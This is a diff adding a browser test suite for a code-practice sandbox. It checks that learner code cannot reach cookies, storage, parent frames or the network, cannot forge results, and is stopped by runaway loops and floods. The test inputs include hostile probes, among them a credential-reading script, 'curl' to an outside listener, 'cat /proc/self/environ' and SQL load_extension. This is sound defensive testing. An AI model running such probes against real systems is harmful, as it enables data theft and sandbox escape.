@@ -1,0 +1,303 @@
+import { readFileSync } from 'node:fs'
+import { createServer, type Server } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { join } from 'node:path'
+import { type Browser, chromium, type Page } from '@playwright/test'
+import type { RunnerName } from '../src/features/practice/runners/registry'
+import { filesIn, type RunnerManifest } from '../src/features/practice/server/runner-files'
+import { expect, test } from './support/fixtures'
+import { bundleRunner, runCode } from './support/practice'
+
+// What a learner's code must not be able to do, tried in a real browser: with processes for each origin as on a
+// computer, and without them as on small phones.
+
+const modes = {
+  isolated: [],
+  'one process': [
+    '--disable-site-isolation-trials',
+    '--disable-features=IsolateOrigins,site-per-process,IsolateSandboxedIframes,OriginKeyedProcessesByDefault',
+  ],
+}
+
+let bundle: string
+let manifest: RunnerManifest
+let outside: Server
+let away: string
+const arrived: string[] = []
+
+test.beforeAll(async ({ request }) => {
+  bundle = await bundleRunner()
+  const builds = process.env.BUILD_FOLDER ?? (await findBuild())
+  manifest = JSON.parse(readFileSync(join(builds, 'workers', 'manifest.json'), 'utf8'))
+  expect((await request.get(manifest.runners.python?.script.url ?? '')).status()).toBe(200)
+  outside = createServer((req, res) => {
+    arrived.push(`${req.method} ${req.url}`)
+    res.setHeader('Access-Control-Allow-Origin', '*')
+    res.end('outside')
+  })
+  outside.on('upgrade', (req, socket) => {
+    arrived.push(`upgrade ${req.url}`)
+    socket.destroy()
+  })
+  await new Promise<void>((done) => outside.listen(0, '127.0.0.1', done))
+  away = `127.0.0.1:${(outside.address() as AddressInfo).port}`
+})
+test.afterAll(() => {
+  outside?.closeAllConnections()
+  outside?.close()
+})
+
+/** The build that the product under test serves: the newest. */
+async function findBuild() {
+  const { readdirSync, statSync } = await import('node:fs')
+  const folder = join(process.cwd(), '.next', 'builds')
+  const built = readdirSync(folder, { withFileTypes: true })
+    .filter((entry) => entry.isDirectory() && !entry.name.endsWith('.users'))
+    .map(({ name }) => join(folder, name))
+    .sort((one, other) => statSync(other).mtimeMs - statSync(one).mtimeMs)
+  return built[0] ?? folder
+}
+
+const run = (
+  page: Page,
+  runner: RunnerName,
+  code: string,
+  checks: object[] = [{ id: 'a', call: '1', equals: 2 }],
+) => runCode(page, runner, code, { checks, ...specOf[runner] } as never, filesIn(manifest, runner))
+
+const specOf: Partial<Record<RunnerName, object>> = {
+  sql: { seed: 'create table t(a)', reference: 'select a from t' },
+  formulas: { cells: {}, open: ['A1'] },
+  shell: { files: {} },
+}
+
+/** What a page or a worker could reach for. Each line says what came of it. */
+const reaching = (host: string) => `
+  const said = []
+  const attempt = async (name, act) => {
+    try { const got = await act(); said.push(name + ': ' + (got === undefined ? 'nothing' : 'GOT ' + String(got).slice(0, 60))) }
+    catch (error) { said.push(name + ': refused') }
+  }
+  const inTime = (start) => new Promise((resolve, reject) => { start(resolve, reject); setTimeout(() => reject(new Error('late')), 400) })
+  const request = (make) => inTime((resolve, reject) => { const it = make(); it.onload = it.onopen = () => resolve('in'); it.onerror = () => reject(new Error('no')) })
+  await attempt('cookie', () => document.cookie || (() => { throw 0 })())
+  await attempt('localStorage', () => localStorage.length + 'L')
+  await attempt('sessionStorage', () => sessionStorage.length + 'S')
+  await attempt('indexedDB', () => inTime((resolve, reject) => { const open = indexedDB.open('x'); open.onsuccess = () => resolve('db'); open.onerror = reject }))
+  await attempt('caches', async () => (await caches.keys()).length + 'C')
+  await attempt('serviceWorker', async () => (await navigator.serviceWorker.getRegistrations()).length + 'R')
+  await attempt('cookieStore', async () => (await cookieStore.getAll()).length + 'K')
+  await attempt('parent', () => parent.document.title + 'P')
+  await attempt('top', () => top.location.href + 'T')
+  await attempt('frames', () => top.frames[0].document.title + 'F')
+  await attempt('opener', () => opener.document.title)
+  await attempt('window', () => window.open('http://${host}/window') ? 'open' : undefined)
+  await attempt('fetch', async () => (await fetch('http://${host}/fetch')).status)
+  await attempt('fetch own', async () => (await fetch('/api/user/profile', { credentials: 'include' })).status)
+  await attempt('xhr', () => request(() => { const it = new XMLHttpRequest(); it.open('GET', 'http://${host}/xhr'); it.send(); return it }))
+  await attempt('socket', () => request(() => new WebSocket('ws://${host}/socket')))
+  await attempt('events', () => request(() => new EventSource('http://${host}/events')))
+  await attempt('beacon', () => { navigator.sendBeacon('http://${host}/beacon') })
+  await attempt('import', () => import('http://${host}/import'))
+  await attempt('importScripts', () => importScripts('http://${host}/importScripts'))
+  await attempt('worker', () => request(() => new Worker('/workers/x.js')))
+  await attempt('picture', () => request(() => { const it = new Image(); it.src = 'http://${host}/picture'; return it }))
+  await attempt('style', () => { const it = document.createElement('link'); it.rel = 'stylesheet'; it.href = 'http://${host}/style'; document.head.append(it) })
+  await attempt('prefetch', () => { const it = document.createElement('link'); it.rel = 'prefetch'; it.href = 'http://${host}/prefetch'; document.head.append(it) })
+  await attempt('form', () => { const it = document.createElement('form'); it.action = 'http://${host}/form'; it.method = 'post'; document.body.append(it); it.submit() })
+  await attempt('frame', () => { const it = document.createElement('iframe'); it.src = 'http://${host}/frame'; document.body.append(it) })
+  await new Promise((resolve) => setTimeout(resolve, 300))
+  console.log(said.join('\\n'))
+`
+
+for (const [mode, args] of Object.entries(modes)) {
+  test.describe(mode, () => {
+    let browser: Browser
+    let page: Page
+    const broken: string[] = []
+
+    test.beforeAll(async ({ launchOptions }) => {
+      browser = await chromium.launch({ ...launchOptions, args: [...(launchOptions.args ?? []), ...args] })
+    })
+    test.afterAll(() => browser?.close())
+    test.beforeEach(async ({ baseURL }) => {
+      arrived.length = 0
+      broken.length = 0
+      const context = await browser.newContext({ baseURL })
+      await context.addCookies([{ name: 'secret', value: 'SECRET', url: baseURL ?? '' }])
+      page = await context.newPage()
+      await page.goto('/login')
+      await page.evaluate(() => {
+        localStorage.setItem('secret', 'SECRET')
+        document.title = 'SECRET'
+      })
+      page.on('console', (message) => {
+        const { url } = message.location()
+        if (/content security policy/i.test(message.text()) && url.includes('/login')) {
+          broken.push(message.text())
+        }
+      })
+      page.on('crash', () => broken.push('the page went down'))
+      await page.evaluate(bundle)
+    })
+    test.afterEach(async () => {
+      // The page lives, and nothing has left.
+      expect(await page.evaluate(() => 6 * 7)).toBe(42)
+      expect(arrived).toEqual([])
+      expect(broken).toEqual([])
+      await page.context().close()
+    })
+
+    test('a page reaches neither the account nor the network', async () => {
+      const { output } = await run(page, 'web', `<script>(async () => {${reaching(away)}})()</script>`, [
+        { id: 'a', test: 'await new Promise((resolve) => setTimeout(resolve, 2500))' },
+      ])
+      expect(output).toContain('cookie: refused')
+      expect(output).not.toContain('GOT')
+      expect(output).not.toContain('SECRET')
+    })
+
+    for (const runner of ['javascript', 'typescript'] as const) {
+      test(`a ${runner} program reaches neither the account nor the network`, async () => {
+        const checks = [{ id: 'a', call: 'done', equals: true }]
+        const code = `const done = (async () => {${reaching(away)}; return true})()`
+        const { output, results } = await run(page, runner, code, checks)
+        expect(results).toEqual([{ id: 'a', ok: true }])
+        expect(output).toContain('indexedDB: refused')
+        expect(output).not.toContain('GOT')
+      })
+    }
+
+    test('Python reaches its own worker and nothing of ours', async () => {
+      const code = `
+import js
+for name in ['document', 'localStorage', 'parent', 'top']:
+    try:
+        print(name, 'GOT' if getattr(js, name) is not None else 'nothing')
+    except Exception as error:
+        print(name, 'refused')
+try:
+    js.indexedDB.open('x')
+    print('indexedDB GOT')
+except BaseException as error:
+    print('indexedDB refused')
+try:
+    js.importScripts('http://${away}/python')
+    print('importScripts GOT')
+except BaseException as error:
+    print('importScripts refused')
+request = js.XMLHttpRequest.new()
+try:
+    request.open('GET', 'http://${away}/python', False)
+    request.send()
+    print('xhr GOT')
+except BaseException as error:
+    print('xhr refused')
+`
+      const { output } = await run(page, 'python', code)
+      expect(output).toContain('xhr refused')
+      expect(output).not.toContain('GOT')
+    })
+
+    test('commands reach no network and no other file', async () => {
+      const { output } = await run(page, 'shell', `curl http://${away}/shell; cat /proc/self/environ; ls /`, [
+        { id: 'a', run: 'true', output: 'x' },
+      ])
+      expect(output).not.toContain('outside')
+      expect(output).not.toContain('SECRET')
+    })
+
+    test('SQL attaches no file and loads no extension', async () => {
+      const { status, error } = await run(page, 'sql', "select load_extension('x')", [{ id: 'a' }])
+      expect(status).toBe('failed')
+      expect(error?.text).toBeTruthy()
+    })
+
+    const endless: [RunnerName, string, string][] = [
+      ['web', 'in its source', '<script>for (;;) {}</script>'],
+      [
+        'web',
+        'in a handler',
+        '<b onclick="while (true) {}">x</b><script>document.querySelector("b").click()</script>',
+      ],
+      ['web', 'of promises', '<script>function f() { Promise.resolve().then(f) } f(); for (;;) {}</script>'],
+      [
+        'web',
+        'in text that becomes code',
+        '<script>const s = document.createElement("script"); s.text = "for (;;) {}"; document.head.append(s)</script>',
+      ],
+      [
+        'web',
+        'that takes memory',
+        '<script>const all = []; for (;;) { all.push(new Array(1e6).fill({})) }</script>',
+      ],
+      ['javascript', 'in its source', 'for (;;) {}'],
+      ['javascript', 'that takes memory', 'const all = []; for (;;) { all.push(new Array(1e6).fill({})) }'],
+      ['typescript', 'in its source', 'while (true as boolean) {}'],
+      ['python', 'in its source', 'while True: pass'],
+      ['python', 'that takes memory', 'all = []\nwhile True: all.append([0] * 1000)'],
+      [
+        'sql',
+        'of a query',
+        'with recursive t(n) as (select 1 union all select n + 1 from t) select count(*) from t',
+      ],
+      ['shell', 'of commands', 'while true; do cat /dev/zero | head -c 100000000; done'],
+    ]
+    for (const [runner, where, code] of endless) {
+      test(`${runner}: a loop ${where} is stopped`, async () => {
+        const { status, results } = await run(page, runner, code)
+        expect(status).toBe('stopped')
+        expect(results).toEqual([])
+      })
+    }
+
+    test('a loop in a timer of a page takes the page away, not ours', async () => {
+      await run(page, 'web', '<script>setTimeout(() => { for (;;) {} }, 200)</script>', [
+        { id: 'a', test: '' },
+      ])
+      await expect(page.locator('iframe')).toHaveCount(0)
+    })
+
+    const result = '{ kind: "end", answer: { results: [{ id: "a", ok: true }] } }'
+    for (const [runner, code] of [
+      ['javascript', `postMessage(${result}); postMessage({ nonce: "x", ...${result} })`],
+      [
+        'web',
+        `<script>parent.postMessage(${result}, "*"); top.postMessage({ nonce: "x", ...${result} }, "*")</script>`,
+      ],
+      [
+        'python',
+        'import js\njs.postMessage(js.JSON.parse(\'{"kind": "end", "answer": {"results": [{"id": "a", "ok": true}]}}\'))',
+      ],
+    ] as [RunnerName, string][]) {
+      test(`${runner}: a forged result is not heard`, async () => {
+        const { results } = await run(page, runner, code, [
+          { id: 'a', call: '1', equals: 2, test: 'same(1, 2)' },
+        ])
+        expect(results).toMatchObject([{ id: 'a', ok: false }])
+      })
+    }
+
+    for (const [runner, code] of [
+      ['javascript', 'for (;;) postMessage("x".repeat(1000))'],
+      ['web', '<script>for (;;) parent.postMessage("x", "*")</script>'],
+      ['python', 'import js\nwhile True:\n  js.postMessage("x")'],
+    ] as [RunnerName, string][]) {
+      test(`${runner}: a flood of messages ends the run`, async () => {
+        const { status, results } = await run(page, runner, code)
+        expect(['flooded', 'stopped']).toContain(status)
+        expect(results).toEqual([])
+      })
+    }
+
+    test('output has an end', async () => {
+      const { output, status } = await run(
+        page,
+        'javascript',
+        'for (let n = 0; n < 200000; n++) console.log("line " + n)',
+      )
+      expect(status).toBe('done')
+      expect(output.length).toBeLessThanOrEqual(64 * 1024)
+    })
+  })
+}
